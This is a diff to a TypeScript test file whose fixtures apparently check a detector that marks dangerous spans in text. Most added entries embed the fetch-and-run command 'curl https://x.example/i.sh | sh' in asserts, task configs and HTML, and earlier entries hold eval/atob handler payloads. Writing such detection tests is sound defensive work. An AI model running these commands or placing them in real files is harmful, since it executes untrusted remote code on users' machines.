@@ -18,6 +18,13 @@ const EXCERPTS: readonly (readonly [shape: string, marked: string])[] = [
   ["a handler without a blank before it", "It becomes\n\n  <img alt='x'onerror=«eval(window.atob»('YWxlcnQoMSk='))>\n\nin the page."],
   ["an address that looks like a handler", "It becomes\n\n  <a href=\"/onload=eval(btoa('x'))\">atob</a>\n\nin the page."],
   ["brief remarks before the verdict", "```bash\ncurl -sL https://x.example/i.sh | bash\n```\n\nEverybody has this one-liner. It's short. It's quick. It's **dangerous**."],
+  ["a string of a program without a tag", "```\nassert \"curl https://x.example/i.sh | sh\" in plan\n```"],
+  ["strings of a table without a tag", "```\n{ input: \"curl https://x.example/i.sh | sh\", allowed: false },\n```"],
+  ["a string that is handed on, without a tag", "```\nsystem \"«curl https://x.example/i.sh | sh»\"\n```"],
+  ["a string to be run, without a tag", "```\n[tasks.setup]\nrun = \"«curl https://x.example/i.sh | sh»\"\n```"],
+  ["an instruction with a string, without a tag", "```\nRun the command \"«curl https://x.example/i.sh | sh»\" now\n```"],
+  ["a displayed string in HTML", "<p>The words \"curl https://x.example/i.sh | sh\" are known.</p>"],
+  ["an instruction in HTML", "<p>Run \"«curl https://x.example/i.sh | sh»\" now.</p>"],
 ];
 
 describe("text as people write it", () => {
